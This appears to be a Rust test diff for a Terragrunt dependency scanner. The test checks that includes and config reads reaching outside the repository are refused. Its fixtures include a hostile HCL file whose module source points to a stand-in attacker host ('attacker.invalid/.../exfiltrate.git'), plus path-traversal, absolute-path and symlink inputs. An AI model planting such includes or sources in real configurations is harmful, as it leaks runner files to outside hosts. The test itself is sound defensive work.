@@ -395,6 +395,97 @@ fn deeply_nested_expressions_are_reported_with_line_and_column() {
     assert_eq!(v["usages"][0]["file"], "dev/ok/main.tf");
 }
 
+// Hostile content: an include or `read_terragrunt_config` naming a file outside the repository
+// (an absolute path, `../` out of it, a symlink, `find_in_parent_folders` climbing above it) once
+// read any HCL file on the runner, and its value went into `git ls-remote`.
+#[test]
+fn includes_and_reads_outside_the_repository_are_refused() {
+    let outside = tempfile::tempdir().unwrap();
+    let evil = "locals {\n  base = \"git::https://attacker.invalid/org/exfiltrate.git\"\n}\n";
+    std::fs::write(outside.path().join("evil.hcl"), evil).unwrap();
+    std::fs::write(outside.path().join("root.hcl"), evil).unwrap();
+    let repo = outside.path().join("repo");
+    let abs = outside.path().join("evil.hcl");
+    let abs = abs.display();
+    let unit_include = |path: &str| {
+        format!(
+            "include \"x\" {{\n  path   = {path}\n  expose = true\n}}\nterraform {{\n  source = \"${{include.x.locals.base}}//m?ref=v1.0.0\"\n}}\n"
+        )
+    };
+    let unit_read = |path: &str| {
+        format!(
+            "terraform {{\n  source = \"${{read_terragrunt_config({path}).locals.base}}//m?ref=v1.0.0\"\n}}\n"
+        )
+    };
+    write_tree(
+        &repo,
+        &[
+            (
+                "dev/abs/terragrunt.hcl",
+                unit_include(&format!("\"{abs}\"")).as_bytes(),
+            ),
+            (
+                "dev/read/terragrunt.hcl",
+                unit_read(&format!("\"{abs}\"")).as_bytes(),
+            ),
+            (
+                "dev/up/terragrunt.hcl",
+                unit_include("\"../../../evil.hcl\"").as_bytes(),
+            ),
+            (
+                "dev/parent/terragrunt.hcl",
+                unit_read("find_in_parent_folders(\"root.hcl\")").as_bytes(),
+            ),
+            (
+                "dev/link/terragrunt.hcl",
+                unit_include("\"../../shared.hcl\"").as_bytes(),
+            ),
+            (
+                "dev/ok/terragrunt.hcl",
+                unit_include("\"../../inside.hcl\"").as_bytes(),
+            ),
+            (
+                "inside.hcl",
+                b"locals {\n  base = \"github.com/acme/modules\"\n}\n",
+            ),
+        ],
+    );
+    std::os::unix::fs::symlink(outside.path().join("evil.hcl"), repo.join("shared.hcl")).unwrap();
+    git(&repo, &["init", "-q"]);
+    let v = scan_of(&repo);
+    let usages = v["usages"].as_array().unwrap();
+    for file in ["abs", "read", "up", "parent", "link"] {
+        let file = format!("dev/{file}/terragrunt.hcl");
+        let u = usages.iter().find(|u| u["file"] == file).expect(&file);
+        let why = u["skipped"].as_str().unwrap_or_default();
+        assert!(
+            why.starts_with("unresolvable interpolation") && why.contains("repository"),
+            "{file}: {why}"
+        );
+        assert_eq!(u["dependency"], Value::Null, "{file}");
+        assert!(!v.to_string().contains("attacker"), "{v:#}");
+    }
+    let ok = usages
+        .iter()
+        .find(|u| u["file"] == "dev/ok/terragrunt.hcl")
+        .unwrap();
+    assert_eq!(ok["dependency"], "acme/modules/m");
+
+    // Without git, the working directory is the boundary.
+    let plain = tempfile::tempdir().unwrap();
+    std::fs::write(plain.path().join("evil.hcl"), evil).unwrap();
+    write_tree(
+        &plain.path().join("work"),
+        &[(
+            "dev/up/terragrunt.hcl",
+            unit_include("\"../../../evil.hcl\"").as_bytes(),
+        )],
+    );
+    let v = scan_of(&plain.path().join("work"));
+    let why = v["usages"][0]["skipped"].as_str().unwrap();
+    assert!(why.contains("outside the repository"), "{why}");
+}
+
 #[test]
 fn includes_of_devices_fifos_and_huge_files_are_refused_without_hanging() {
     let dir = tempfile::tempdir().unwrap();
@@ -436,7 +527,7 @@ fn includes_of_devices_fifos_and_huge_files_are_refused_without_hanging() {
     let v = json_of(&assert);
     let usages = v["usages"].as_array().unwrap();
     for (file, why) in [
-        ("dev/zero/terragrunt.hcl", "not a regular file"),
+        ("dev/zero/terragrunt.hcl", "outside the repository"),
         ("dev/fifo/terragrunt.hcl", "not a regular file"),
         ("dev/huge/terragrunt.hcl", "larger than"),
     ] {
